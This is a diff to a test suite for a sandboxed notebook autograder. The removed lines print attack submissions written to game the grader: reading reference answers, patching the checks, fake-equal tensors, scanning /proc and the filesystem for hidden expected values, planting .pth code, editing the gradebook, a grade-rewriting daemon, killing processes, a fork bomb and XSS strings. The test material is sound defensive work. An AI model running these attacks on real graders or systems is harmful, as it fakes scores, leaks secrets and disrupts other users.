@@ -9,11 +9,11 @@
 
 Parts 1, 2 and 4 are graded in ONE ``grade()`` run (module-scoped fixture ``batch``) of the
 fixture course (tests/fixtures/course: ``sft_loss`` 1 visible + 2 hidden points,
-``sequence_log_prob`` 1 + 1). Needs bubblewrap (``bwrap``), as the grader does.
+``sequence_log_prob`` 1 + 1), the students' code of parts 1, 2 and 4 read from tests/trust_cases/ (one
+file a student: its README.md). Needs bubblewrap (``bwrap``), as the grader does.
 """
 from __future__ import annotations
 
-import hashlib
 import html
 import json
 import os
@@ -41,8 +41,6 @@ SITE = Path(sysconfig.get_paths()["purelib"])
 NOBODY = 65534
 MARK = f"rltrust{uuid.uuid4().hex[:10]}"  # names every file/process an attack tries to leave behind
 
-SFT_WRONG = "def sft_loss(token_logps, mask):\n    return torch.zeros((), dtype=token_logps.dtype)\n"
-
 pytestmark = pytest.mark.skipif(sandbox.bwrap_path() is None, reason="bubblewrap (bwrap) is not installed")
 
 
@@ -61,524 +59,52 @@ def student_nb(sft: str = SFT_OK, seq: str = SEQ_OK, added: tuple = ()):
     return nb
 
 
-# ----------------------------------------------------------------------------- 1. honest styles
-HONEST = {
-    "import_re": dict(sft=(
-        "import re\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    if not re.fullmatch(r'torch\\.\\w+', str(token_logps.dtype)):\n"
-        "        raise TypeError('unexpected dtype')\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / m.sum()\n")),
-    "type_name": dict(sft=(
-        "def sft_loss(token_logps, mask):\n"
-        "    if not isinstance(token_logps, torch.Tensor):\n"
-        "        raise TypeError(f'token_logps should be a tensor, not {type(token_logps).__name__}')\n"
-        "    if token_logps.shape != mask.shape:\n"
-        "        raise ValueError(f'shapes differ: {type(mask).__name__} {tuple(mask.shape)}')\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / m.sum()\n")),
-    "list_remove": dict(seq=(
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    dims = list(range(token_logps.dim()))\n"
-        "    dims.remove(0)  # every dimension but the batch\n"
-        "    return (token_logps * mask.to(token_logps.dtype)).sum(dim=dims)\n")),
-    "super_init": dict(sft=(
-        "class _Masked:\n"
-        "    def __init__(self, values, mask):\n"
-        "        self.values, self.mask = values, mask.to(values.dtype)\n\n"
-        "class _MaskedMean(_Masked):\n"
-        "    def __init__(self, values, mask):\n"
-        "        super().__init__(values, mask)\n\n"
-        "    def value(self):\n"
-        "        return (self.values * self.mask).sum() / self.mask.sum()\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    return -_MaskedMean(token_logps, mask).value()\n")),
-    "method_min_next": dict(seq=(
-        "class Rows:\n"
-        "    def __init__(self, lp, mask):\n"
-        "        self.lp, self.mask, self.i = lp, mask.to(lp.dtype), 0\n\n"
-        "    def next(self):\n"
-        "        row = (self.lp[self.i] * self.mask[self.i]).sum()\n"
-        "        self.i += 1\n"
-        "        return row\n\n"
-        "    def min(self):\n"
-        "        return self.lp.min()\n\n"
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    rows = Rows(token_logps, mask)\n"
-        "    assert rows.min() <= 0, 'log-probabilities are never positive'\n"
-        "    return torch.stack([rows.next() for _ in range(token_logps.shape[0])])\n")),
-    "locals_reference_signal_input": dict(sft=(
-        "def sft_loss(token_logps, mask):\n"
-        "    input = token_logps\n"
-        "    signal = mask.to(input.dtype)\n"
-        "    reference = (input * signal).sum()\n"
-        "    return -reference / signal.sum()\n")),
-    "timeit_magic": dict(sft=SFT_OK + "\n%timeit -n 1 -r 1 sft_loss(torch.zeros(2, 3), torch.ones(2, 3))\n"),
-    "memo_dict": dict(sft=(
-        "_kernels = {}\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    key = (token_logps.dtype, mask.dtype)\n"
-        "    if key not in _kernels:\n"
-        "        _kernels[key] = lambda lp, m: -(lp * m.to(lp.dtype)).sum() / m.to(lp.dtype).sum()\n"
-        "    return _kernels[key](token_logps, mask)\n")),
-    "global_counter": dict(sft=(
-        "DEBUG_CALLS = 0\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    global DEBUG_CALLS\n"
-        "    DEBUG_CALLS += 1\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / m.sum()\n")),
-    "added_helper_cell": dict(
-        seq="def sequence_log_prob(token_logps, mask):\n    return masked_sum(token_logps, mask)\n",
-        added=(("sequence_log_prob", "def masked_sum(x, m):\n    return (x * m.to(x.dtype)).sum(-1)\n"),)),
-    "helper_cell_after": dict(
-        sft="def sft_loss(token_logps, mask):\n    return -masked_mean(token_logps, mask)\n",
-        added=((None, "def masked_mean(x, m):\n    m = m.to(x.dtype)\n    return (x * m).sum() / m.sum()\n"),)),
-    "numpy_roundtrip": dict(seq=(
-        "import numpy as np\n\n"
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    m = torch.from_numpy(np.asarray(mask.numpy(), dtype=np.float64)).to(token_logps.dtype)\n"
-        "    return (token_logps * m).sum(-1)\n")),
-    "einsum": dict(seq=(
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    return torch.einsum('bt,bt->b', token_logps, mask.to(token_logps.dtype))\n")),
-    "lambda": dict(sft="sft_loss = lambda token_logps, mask: -(token_logps * mask.to(token_logps.dtype)).sum() "
-                       "/ mask.to(token_logps.dtype).sum()\n"),
-    "functools_partial": dict(sft=(
-        "import functools\n\n"
-        "def _masked_mean(token_logps, mask, sign=1.0):\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return sign * (token_logps * m).sum() / m.sum()\n\n"
-        "sft_loss = functools.partial(_masked_mean, sign=-1.0)\n")),
-    "typing_annotations": dict(sft=(
-        "from typing import Optional\n\n"
-        "def sft_loss(token_logps: torch.Tensor, mask: torch.Tensor, eps: Optional[float] = None) -> torch.Tensor:\n"
-        "    m: torch.Tensor = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / (m.sum() if eps is None else m.sum() + eps)\n")),
-    "begin_markers_in_text": dict(sft=(
-        "def sft_loss(token_logps, mask):\n"
-        "    \"\"\"Masked mean NLL.\n\n"
-        "    Notes copied from the course: ### BEGIN HIDDEN TESTS / ### END HIDDEN TESTS mark the\n"
-        "    hidden part of a test cell.\n"
-        "    \"\"\"\n"
-        "    ### BEGIN SOLUTION\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / m.sum()\n"
-        "    ### END SOLUTION\n")),
-    "print_inside": dict(sft=(
-        "def sft_loss(token_logps, mask):\n"
-        "    print('shapes', token_logps.shape, mask.shape)\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    loss = -(token_logps * m).sum() / m.sum()\n"
-        "    print('loss', loss)\n"
-        "    return loss\n")),
-    "star_import": dict(seq=(
-        "from torch import *\n\n"
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    return where(mask.bool(), token_logps, zeros_like(token_logps)).sum(-1)\n")),
-    "wraps_decorator": dict(sft=(
-        "import functools\n\n"
-        "def logged(fn):\n"
-        "    @functools.wraps(fn)\n"
-        "    def inner(*args, **kwargs):\n"
-        "        return fn(*args, **kwargs)\n"
-        "    return inner\n\n"
-        "@logged\n" + SFT_OK)),
-    "callable_class": dict(sft=(
-        "class SFTLoss:\n"
-        "    def __call__(self, token_logps, mask):\n"
-        "        m = mask.to(token_logps.dtype)\n"
-        "        return -(token_logps * m).sum() / m.sum()\n\n"
-        "sft_loss = SFTLoss()\n")),
-    "recursion": dict(seq=(
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    if token_logps.shape[0] == 0:\n"
-        "        return token_logps.new_zeros(0)\n"
-        "    head = (token_logps[0] * mask[0].to(token_logps.dtype)).sum().unsqueeze(0)\n"
-        "    return torch.cat([head, sequence_log_prob(token_logps[1:], mask[1:])])\n")),
-    "generator_expression": dict(seq=(
-        "def sequence_log_prob(token_logps, mask):\n"
-        "    return torch.stack([sum(l * float(k) for l, k in zip(row, mrow))\n"
-        "                        for row, mrow in zip(token_logps, mask)])\n")),
-    "assert_inside_unused_os": dict(sft=(
-        "import os\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    assert token_logps.shape == mask.shape, 'token_logps and mask must have the same shape'\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    return -(token_logps * m).sum() / m.sum()\n")),
-    "no_grad_normaliser": dict(sft=(
-        "def sft_loss(token_logps, mask):\n"
-        "    m = mask.to(token_logps.dtype)\n"
-        "    with torch.no_grad():\n"
-        "        n = m.sum()  # a count: no gradient needed\n"
-        "    return -(token_logps * m).sum() / n\n")),
-    "closure_factory_kwonly": dict(sft=(
-        "def make_loss(*, sign=-1.0):\n"
-        "    def loss(token_logps, mask):\n"
-        "        m = mask.to(token_logps.dtype)\n"
-        "        return sign * (token_logps * m).sum() / m.sum()\n"
-        "    return loss\n\n"
-        "sft_loss = make_loss()\n")),
-    "main_guard_selftest": dict(sft=SFT_OK + (
-        "\nif __name__ == '__main__':\n"
-        "    assert abs(float(sft_loss(torch.tensor([[-1.0, -3.0]]), torch.tensor([[1.0, 1.0]]))) - 2.0) < 1e-6\n")),
-    "own_test_cell_and_helper_package": dict(
-        seq=("from rlcourse.checks import check_shape\n\n"
-             "def sequence_log_prob(token_logps, mask):\n"
-             "    out = (token_logps * mask.to(token_logps.dtype)).sum(-1)\n"
-             "    check_shape(out, token_logps.shape[:1], 'sequence_log_prob')\n"
-             "    return out\n"),
-        added=((None, "out = sequence_log_prob(torch.tensor([[-1.0, -2.0]]), torch.ones(1, 2))\n"
-                      "assert torch.allclose(out, torch.tensor([-3.0])), out\nout\n"),)),
-    "scratch_cell_that_fails": dict(
-        added=(("sft_loss", "x = undefined_name + 1  # a scratch cell left broken\n"),)),
-    "edited_demo_cell_and_plot": dict(added=((None, (
-        "import matplotlib.pyplot as plt\n"
-        "for step in range(STEPS):\n    pass\n"
-        "plt.plot([float(sft_loss(torch.zeros(2, 3), torch.ones(2, 3)))])\nplt.show()\n")),)),
-    "dataclass_and_where": dict(sft=(
-        "from dataclasses import dataclass\n\n"
-        "@dataclass\n"
-        "class Batch:\n"
-        "    logps: torch.Tensor\n"
-        "    mask: torch.Tensor\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    b = Batch(token_logps, mask.bool())\n"
-        "    picked = torch.where(b.mask, b.logps, torch.zeros_like(b.logps))\n"
-        "    return -picked.sum() / b.mask.sum().to(b.logps.dtype)\n")),
-}
+# ----------------------------------------------------------------------------- the cases
+CASES = Path(__file__).resolve().parent / "trust_cases"
+CELL = re.compile(r"^# %% (.*)\n", re.M)
+EXPECT = re.compile(r"^# expect: sft_loss=(\w+) sequence_log_prob=(\w+) status=(\S+)$", re.M)
 
+
+def load_cases(kind: str) -> dict:
+    """name -> (cells, expected) of each file of tests/trust_cases/<kind>/ (the format: its README.md).
+    cells: [(where, source)], placeholders not filled in; expected: (sft_loss points, sequence_log_prob
+    points, status), each None where the file says ``any``; None without an ``# expect:`` line."""
+    cases = {}
+    for path in sorted((CASES / kind).glob("*.py")):
+        head, *parts = CELL.split(path.read_text())
+        cells = [(where, source.rstrip("\n") + "\n") for where, source in zip(parts[::2], parts[1::2])]
+        assert cells and all(w in ("sft_loss", "sequence_log_prob", "added at end") or w.startswith("added before ")
+                             for w, _ in cells), path
+        expected, found = None, EXPECT.search(head)
+        if found:
+            sft, seq, status = (None if v == "any" else v for v in found.groups())
+            expected = (None if sft is None else int(sft), None if seq is None else int(seq), status)
+        cases[path.stem] = (cells, expected)
+    return cases
+
+
+def case_nb(cells: list, values: dict):
+    """The notebook of a case: its cells with each ``{{NAME}}`` replaced by ``values[NAME]``; an answer cell
+    the case leaves out holds the right answer."""
+    def fill(source: str) -> str:
+        return re.sub(r"\{\{(\w+)\}\}", lambda m: values[m.group(1)], source)
+
+    answers = dict(cells)
+    added = tuple((None if where == "added at end" else where.removeprefix("added before "), fill(source))
+                  for where, source in cells if where.startswith("added "))
+    return student_nb(fill(answers.get("sft_loss", SFT_OK)), fill(answers.get("sequence_log_prob", SEQ_OK)), added)
+
+
+# ----------------------------------------------------------------------------- 1. honest styles
+# tests/trust_cases/honest/, and one whose IPython magic is no Python for a file
+HONEST = {**load_cases("honest"), "timeit_magic": (
+    [("sft_loss", SFT_OK + "\n%timeit -n 1 -r 1 sft_loss(torch.zeros(2, 3), torch.ones(2, 3))\n")], None)}
 
 # ----------------------------------------------------------------------------- 2. attacks
-def attacks(ctx: dict) -> dict:
-    """student -> (notebook, expected sft_loss points, expected sequence_log_prob points or None,
-    a status it must have or None). Each attack would raise a score if it worked."""
-    out_dir, gradebook = ctx["out"], ctx["gradebook"]
-    A = {}
-
-    # reaching the reference answers: whatever is found is used as the answer
-    A["ref_imports"] = (
-        "import importlib, inspect, pkgutil, sys\n"
-        "_found = None\n\n"
-        "def _try(get):\n"
-        "    global _found\n"
-        "    if _found is None:\n"
-        "        try:\n"
-        "            fn = get()\n"
-        "            if callable(fn):\n"
-        "                _found = fn\n"
-        "        except BaseException:\n"
-        "            pass\n\n"
-        "def _scan():\n"
-        "    import rlcourse\n"
-        "    for info in pkgutil.iter_modules(rlcourse.__path__):\n"
-        "        try:\n"
-        "            mod = importlib.import_module('rlcourse.' + info.name)\n"
-        "        except BaseException:\n"
-        "            continue\n"
-        "        for value in list(vars(mod).values()):\n"
-        "            if callable(value) and getattr(value, '__name__', '') == 'sft_loss':\n"
-        "                return value\n"
-        "            if inspect.ismodule(value) and hasattr(value, 'sft_loss'):\n"
-        "                return value.sft_loss\n\n"
-        "def _from_file(path):\n"
-        "    import importlib.util\n"
-        "    spec = importlib.util.spec_from_file_location('_r', path)\n"
-        "    mod = importlib.util.module_from_spec(spec)\n"
-        "    spec.loader.exec_module(mod)\n"
-        "    return mod.sft_loss\n\n"
-        "def _repo_on_path():\n"
-        f"    sys.path.insert(0, {str(REPO)!r})\n"
-        "    for name in [m for m in sys.modules if m.startswith('rlcourse')]:\n"
-        "        del sys.modules[name]\n"
-        "    importlib.invalidate_caches()\n"
-        "    return importlib.import_module('rlcourse.reference').sft_loss\n\n"
-        "_try(lambda: __import__('rlcourse.reference', fromlist=['sft_loss']).sft_loss)\n"
-        "_try(lambda: importlib.import_module('rlcourse.' + ''.join(['ref', 'ere', 'nce'])).sft_loss)\n"
-        "_try(lambda: getattr(importlib.import_module('rlcourse.rollout'), 'sft_loss'))\n"
-        "_try(lambda: getattr(importlib.import_module('rlcourse.rewards'), 'reference').sft_loss)\n"
-        "_try(lambda: getattr(__import__('rlcourse'), 'reference').sft_loss)\n"
-        "_try(_scan)\n"
-        f"_try(lambda: _from_file({str(REPO / 'rlcourse' / 'reference.py')!r}))\n"
-        "_try(lambda: _from_file('/grader/rlcourse/reference.py'))\n"
-        "_try(_repo_on_path)\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    if _found is not None:\n"
-        "        return _found(token_logps, mask)\n"
-        "    return torch.zeros((), dtype=token_logps.dtype)\n", 0, 2, "ok")
-
-    # disabling the checks from inside: all of it happens in the sandbox only
-    A["disable_checks"] = (
-        "import builtins, sys, types\n"
-        "import torch, numpy.testing\n"
-        "import rlcourse.checks as C\n"
-        "for _n in dir(C):\n"
-        "    if _n.startswith(('check', 'fail')):\n"
-        "        setattr(C, _n, lambda *a, **k: None)\n"
-        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
-        "torch.allclose = lambda *a, **k: True\n"
-        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
-        "sys.excepthook = lambda *a: None\n"
-        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
-        "sys.modules['rlcourse.checks'] = types.ModuleType('rlcourse.checks')\n"
-        "check_close = check_scalar = check_own_function = lambda *a, **k: None\n" + SFT_WRONG, 0, 2, "ok")
-    # builtins that the student's own server needs too: whatever breaks is the student's own process
-    A["patch_builtins"] = (
-        "import builtins\n" + SFT_WRONG +
-        "builtins.isinstance = lambda *a: True\nbuiltins.float = lambda *a: 1.5\n", 0, None, None)
-
-    # objects that fool comparisons
-    A["fool_tensor_subclass"] = (
-        "class Liar(torch.Tensor):\n"
-        "    @classmethod\n"
-        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
-        "        if getattr(func, '__name__', '') in ('__eq__', 'allclose', 'isclose', 'equal'):\n"
-        "            return True\n"
-        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
-        "    def __eq__(self, other): return True\n"
-        "    def __float__(self): return 1.5\n"
-        "    def __sub__(self, other): return torch.zeros(())\n"
-        "    def __rsub__(self, other): return torch.zeros(())\n"
-        "    def __abs__(self): return torch.zeros(())\n"
-        "    def double(self): return self\n"
-        "    def detach(self): return self\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    return torch.zeros((), dtype=token_logps.dtype).as_subclass(Liar)\n", 0, 2, "ok")
-    A["fool_float_subclass"] = (
-        "class Close(float):\n"
-        "    def __eq__(self, other): return True\n"
-        "    def __sub__(self, other): return Close(0.0)\n"
-        "    def __rsub__(self, other): return Close(0.0)\n"
-        "    def __abs__(self): return Close(0.0)\n"
-        "    def __gt__(self, other): return False\n"
-        "    def __le__(self, other): return True\n"
-        "    def __float__(self): return 1.5\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    return Close(0.0)\n", 0, 2, "ok")
-    A["fool_custom_lt"] = (SFT_OK, 3, 0,
-                           "ok", "class Always:\n"
-                           "    def __lt__(self, other): return True\n"
-                           "    def __le__(self, other): return True\n"
-                           "    def __gt__(self, other): return False\n"
-                           "    def __eq__(self, other): return True\n"
-                           "    shape = (1,)\n\n"
-                           "def sequence_log_prob(token_logps, mask):\n"
-                           "    return Always()\n")
-
-    # reading: the hidden tests' expected values, wherever the student can look
-    known = [REPO / "solutions", COURSE / "solutions" / "demo" / "demo.ipynb", gradebook, out_dir, ctx["nbgrader"],
-             REPO / "autograded", out_dir / ".grading"]
-    A["read_files"] = (
-        "import glob, os, re, time\n"
-        "LEAKED = ''\n\n"
-        "def _text(path):\n"
-        "    try:\n"
-        "        with open(path, 'rb') as fh:\n"
-        "            return fh.read(5_000_000).decode('utf-8', 'replace')\n"
-        "    except Exception:\n"
-        "        return ''\n\n"
-        "def _look(text):\n"
-        "    global LEAKED\n"
-        "    found = re.search(r'check_close\\(sft_loss\\(lp, m\\), ([0-9.+*/ ]+),', text)\n"
-        "    if found and not LEAKED:\n"
-        "        LEAKED = found.group(1)\n\n"
-        "def _files(top, budget):\n"
-        "    end = time.time() + budget\n"
-        "    for d, dirs, files in os.walk(top):\n"
-        "        dirs[:] = [x for x in dirs if x not in ('proc', 'sys', 'dev')]\n"
-        "        for f in files:\n"
-        "            if f.endswith(('.ipynb', '.db', '.json', '.jsonl', '.csv', '.log', '.html')) or 'solution' in d:\n"
-        "                yield os.path.join(d, f)\n"
-        "        if time.time() > end:\n"
-        "            return\n\n"
-        f"for top in {[str(p) for p in known]!r}:\n"
-        "    if os.path.isfile(top):\n"
-        "        _look(_text(top))\n"
-        "    for p in _files(top, 0.5):\n"
-        "        _look(_text(p))\n"
-        "_look(str(dict(os.environ)))\n"
-        "for pid in os.listdir('/proc'):\n"
-        "    if pid.isdigit():\n"
-        "        for what in ('cmdline', 'environ', 'cwd/student.json', 'root/tmp'):\n"
-        "            _look(_text(f'/proc/{pid}/{what}'))\n"
-        "for fd in os.listdir('/proc/self/fd'):\n"
-        "    _look(_text(f'/proc/self/fd/{fd}'))\n"
-        "# the grader's folders, from where the sandbox's own mounts come from\n"
-        "for line in _text('/proc/self/mountinfo').splitlines():\n"
-        "    fields = line.split()\n"
-        "    if len(fields) > 4 and fields[4] == '/grader':\n"
-        "        tmp = os.path.dirname(fields[3])\n"
-        "        for p in glob.glob(tmp + '/ws-*/*') + glob.glob(tmp + '/*'):\n"
-        "            _look(_text(p))\n"
-        "for p in _files('/', 2.0):\n"
-        "    _look(_text(p))\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    if LEAKED:  # the hidden test's expected value, as read from the grader's files\n"
-        "        value = eval(LEAKED, {})\n"
-        "        return torch.tensor(value if mask.dtype == torch.bool else 1.5, dtype=token_logps.dtype)\n"
-        "    return torch.zeros((), dtype=token_logps.dtype)\n", 0, 2, "ok")
-
-    # writing: the environment, the repository, the gradebook, the results, /tmp and /dev/shm
-    ws = out_dir / ".grading" / "tmp" / f"ws-{hashlib.sha256(b'write_everywhere/demo/demo').hexdigest()[:16]}"
-    targets = [SITE / f"{MARK}.pth", REPO / f"{MARK}.txt", REPO / "rlcourse" / f"{MARK}.py", COURSE / f"{MARK}.txt",
-               out_dir / f"{MARK}.txt", out_dir / "grades.csv", ctx["nbgrader"] / f"{MARK}.txt",
-               gradebook.parent / f"{MARK}.txt", ws / "result.json", Path("/tmp") / MARK, Path("/dev/shm") / MARK,
-               Path("/tmp") / f"{MARK}.pth"]
-    A["write_everywhere"] = (
-        "import os, sqlite3\n"
-        f"for target in {[str(t) for t in targets]!r}:\n"
-        "    try:\n"
-        "        os.makedirs(os.path.dirname(target), exist_ok=True)\n"
-        "    except OSError:\n"
-        "        pass\n"
-        "    try:\n"
-        "        with open(target, 'w') as fh:\n"
-        f"            fh.write('import os; open(\"/tmp/{MARK}-pth-ran\", \"w\")\\n' if target.endswith('.pth') else "
-        "'{\"success\": true, \"grades\": {\"test_sft_loss\": [1, 1], \"test_sft_loss_hidden\": [2, 2]}}')\n"
-        "    except OSError:\n"
-        "        pass\n"
-        "try:\n"
-        f"    con = sqlite3.connect({str(gradebook)!r})\n"
-        "    con.execute('update grade set auto_score = 99')\n"
-        "    con.commit()\n"
-        "except Exception:\n"
-        "    pass\n" + SFT_WRONG, 0, 2, "ok")
-
-    # a daemon that would rewrite grades.csv after the batch
-    A["daemon"] = (
-        "import os\n"
-        "def _daemon():\n"
-        "    pid = os.fork()\n"
-        "    if pid == 0:\n"
-        "        try:\n"
-        "            os.setsid()\n"
-        "            if os.fork() == 0:\n"
-        f"                script = 'while :; do echo hacked > {out_dir}/grades.csv; sleep 0.2; done'\n"
-        f"                os.execv('/bin/sh', ['sh', '-c', script, {MARK!r}])\n"
-        "        finally:\n"
-        "            os._exit(0)\n"
-        "    os.waitpid(pid, 0)\n"
-        "_daemon()\n" + SFT_WRONG, 0, 2, "ok")
-
-    # killing the grader's processes and the student graded next to this one
-    A["kill"] = (
-        "import os, signal\n\n"
-        "def _contained():  # only unprivileged, in a PID namespace: never on a bare test machine\n"
-        "    return os.getuid() != 0 and len([p for p in os.listdir('/proc') if p.isdigit()]) < 50\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    if _contained():\n"
-        "        for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
-        "            if pid != os.getpid():\n"
-        "                try:\n"
-        "                    os.kill(pid, signal.SIGKILL)\n"
-        "                except OSError:\n"
-        "                    pass\n"
-        "        try:\n"
-        "            os.kill(-1, signal.SIGKILL)\n"
-        "        except OSError:\n"
-        "            pass\n"
-        "    return torch.zeros((), dtype=token_logps.dtype)\n", 0, 2, None)
-
-    # a modest fork bomb (300 processes at most, and only when contained)
-    A["fork_bomb"] = (
-        "import os, time\n"
-        "FORKED = 0\n"
-        "if os.getuid() != 0 and len([p for p in os.listdir('/proc') if p.isdigit()]) < 50:\n"
-        "    for _ in range(300):\n"
-        "        try:\n"
-        "            pid = os.fork()\n"
-        "        except OSError:\n"
-        "            break\n"
-        "        if pid == 0:\n"
-        "            try:\n"
-        "                time.sleep(600)\n"
-        "            finally:\n"
-        "                os._exit(0)\n"
-        "        FORKED += 1\n" + SFT_WRONG, 0, 2, None)
-
-    # the network: a listener of the test on 127.0.0.1, on this machine's address and an abstract unix socket
-    A["network"] = (
-        "import socket\n"
-        "GOT = b''\n"
-        f"for family, address in [(socket.AF_INET, ('127.0.0.1', {ctx['port']})), "
-        f"(socket.AF_INET, ({ctx['host_ip']!r}, {ctx['port']})), (socket.AF_UNIX, {ctx['abstract']!r})]:\n"
-        "    try:\n"
-        "        s = socket.socket(family, socket.SOCK_STREAM)\n"
-        "        s.settimeout(1)\n"
-        "        s.connect(address)\n"
-        "        s.sendall(b'sft_loss?')\n"
-        "        GOT += s.recv(100)\n"
-        "    except OSError:\n"
-        "        pass\n"
-        "try:\n"
-        f"    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hi', ('127.0.0.1', {ctx['port']}))\n"
-        "except OSError:\n"
-        "    pass\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    if GOT:\n"
-        "        return torch.tensor(float(GOT.decode()), dtype=token_logps.dtype)\n"
-        "    return torch.zeros((), dtype=token_logps.dtype)\n", 0, 2, "ok")
-
-    # breaking the protocol is evidence: the exercise scores 0 and is flagged
-    A["forge_protocol"] = (
-        "import os\n\n"
-        "def sft_loss(token_logps, mask):\n"
-        "    for fd in os.listdir('/proc/self/fd'):\n"
-        "        try:\n"
-        "            if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
-        "                os.write(int(fd), b'xxxx')\n"
-        "        except OSError:\n"
-        "            pass\n"
-        "    return torch.zeros((), dtype=token_logps.dtype)\n", 0, 2, "tampering")
-
-    table = {}
-    for name, spec in A.items():
-        if len(spec) == 5:  # (sft, sft points, seq points, status, seq source)
-            sft, p1, p2, status, seq = spec
-            table[name] = (student_nb(sft=sft, seq=seq), p1, p2, status)
-        else:
-            sft, p1, p2, status = spec
-            table[name] = (student_nb(sft=sft), p1, p2, status)
-    return table
-
+ATTACKS = load_cases("attacks")  # tests/trust_cases/attacks/: each would raise a score if it worked
 
 # ----------------------------------------------------------------------------- 4. hidden tests, escaping
-def _raise_with(kind: str, name: str) -> str:
-    return (f"def {name}(token_logps, mask):\n"
-            "    print('my inputs', token_logps.tolist(), mask.tolist())\n" + kind)
-
-
-LEAKERS = {
-    # right on the visible test, wrong on the hidden ones
-    "leak_wrong": (student_nb(
-        sft=("def sft_loss(token_logps, mask):\n    m = mask.to(token_logps.dtype)\n"
-             "    return (-(token_logps * m).sum(-1) / m.sum(-1)).mean()\n"),
-        seq=("def sequence_log_prob(token_logps, mask):\n    m = mask.to(token_logps.dtype)\n"
-             "    return (token_logps * m).sum(-1) / m.sum(-1)\n")), 1, 1, "ok"),
-    # the student's own exception text carries the inputs
-    "leak_raise": (student_nb(
-        sft=_raise_with("    raise ValueError(str(token_logps.tolist()) + str(mask.tolist()))\n", "sft_loss"),
-        seq=_raise_with("    raise ValueError(str(token_logps.tolist()) + str(mask.tolist()))\n", "sequence_log_prob")),
-        0, 0, "ok"),
-    "leak_assert": (student_nb(
-        sft=_raise_with("    assert False, str(token_logps.tolist()) + str(mask.tolist())\n", "sft_loss"),
-        seq=_raise_with("    assert False, str(token_logps.tolist()) + str(mask.tolist())\n", "sequence_log_prob")),
-        0, 0, "ok"),
-    # ... or the name of an exception class made on the fly
-    "leak_typename": (student_nb(
-        sft=_raise_with("    raise type('E' + str(token_logps.tolist()) + str(mask.tolist()), (Exception,), {})('x')\n",
-                        "sft_loss"),
-        seq=_raise_with("    raise type('E' + str(token_logps.tolist()) + str(mask.tolist()), (Exception,), {})('x')\n",
-                        "sequence_log_prob")), 0, 0, "ok"),
-    # HTML in a comment, a string, an exception message and an exception class name
-    "xss": (student_nb(
-        sft=("# <script>alert(1)</script>\n"
-             "NOTE = '<script>alert(2)</script>'\n" + SFT_OK),
-        seq=("def sequence_log_prob(token_logps, mask):\n"
-             "    raise type('<img src=x onerror=alert(3)>', (Exception,), {})('<script>alert(4)</script>')\n")),
-        3, 0, "ok"),
-}
+LEAKERS = load_cases("leakers")  # tests/trust_cases/leakers/
 
 
 def hidden_blocks() -> list[str]:
@@ -707,16 +233,17 @@ def batch(tmp_path_factory):
     root = tmp_path_factory.mktemp("trust")
     out, nbgrader_dir, gradebook = root / "out", root / "course", root / "gradebook.db"
     listener = Listener()
-    ctx = {"out": out, "gradebook": gradebook, "nbgrader": nbgrader_dir, "port": listener.port,
-           "host_ip": _host_ip(), "abstract": listener.abstract}
+    values = {"REPO": str(REPO), "SITE": str(SITE), "COURSE": str(COURSE), "MARK": MARK, "ROOT": str(root),
+              "OUT": str(out), "GRADEBOOK": str(gradebook), "NBGRADER": str(nbgrader_dir),
+              "PORT": str(listener.port), "HOST_IP": _host_ip()}  # the placeholders of tests/trust_cases
     expected = {}
     notebooks = {}
-    for name, spec in HONEST.items():
-        notebooks[f"honest_{name}"] = student_nb(spec.get("sft", SFT_OK), spec.get("seq", SEQ_OK), spec.get("added", ()))
+    for name, (cells, _) in HONEST.items():
+        notebooks[f"honest_{name}"] = case_nb(cells, values)
         expected[f"honest_{name}"] = (3, 2, "ok")
-    for name, (nb, p1, p2, status) in {**attacks(ctx), **LEAKERS}.items():
-        notebooks[name] = nb
-        expected[name] = (p1, p2, status)
+    for name, (cells, want) in {**ATTACKS, **LEAKERS}.items():
+        notebooks[name] = case_nb(cells, values)
+        expected[name] = want
     for name, nb in notebooks.items():
         d = root / "submitted" / name / "demo"
         d.mkdir(parents=True)
@@ -764,9 +291,7 @@ def test_honest_styles_get_full_marks(batch):
     assert not bad, bad
 
 
-@pytest.mark.parametrize("name", ["ref_imports", "disable_checks", "patch_builtins", "fool_tensor_subclass",
-                                  "fool_float_subclass", "fool_custom_lt", "read_files", "write_everywhere",
-                                  "daemon", "kill", "fork_bomb", "network", "forge_protocol"])
+@pytest.mark.parametrize("name", sorted(ATTACKS))
 def test_attack_scores_nothing(batch, name):
     row = batch["rows"][name]
     sft, seq, status = batch["expected"][name]
